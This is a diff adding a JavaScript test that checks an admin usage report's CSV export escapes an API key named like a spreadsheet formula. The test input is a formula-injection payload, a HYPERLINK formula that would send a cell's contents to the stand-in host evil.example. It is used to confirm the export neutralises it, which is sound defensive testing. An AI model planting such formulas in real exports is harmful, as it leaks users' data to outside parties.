@@ -316,6 +316,28 @@ describe("the usage report", () => {
       await model.close();
     }
   });
+
+  it("exports a key named like a spreadsheet formula as text, never as a live formula", async () => {
+    const model = await startFakeModelService({ models: ["tiny-story"] });
+    const web = await startWeb({ modelUrl: model.url });
+    try {
+      const admin = await signUp(web.app, "admin");
+      const url = await web.app.listen({ host: "127.0.0.1", port: 0 });
+      const key = await createApiKey(web.app, admin, '=HYPERLINK("http://evil.example/?leak="&A2,"open")');
+      const sdk = await fetch(`${url}/v1/chat/completions`, {
+        method: "POST",
+        headers: { "content-type": "application/json", authorization: `Bearer ${key}` },
+        body: JSON.stringify({ model: "tiny-story", messages: [{ role: "user", content: "hi" }] }),
+      });
+      await sdk.text();
+      const csv = (await web.app.inject({ url: "/api/admin/usage?format=csv", headers: admin.headers })).body;
+      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""open"")"`);
+      expect(csv).not.toMatch(/(^|,)"=/m);
+    } finally {
+      await web.close();
+      await model.close();
+    }
+  });
 });
 
 describe("no model for this user", () => {
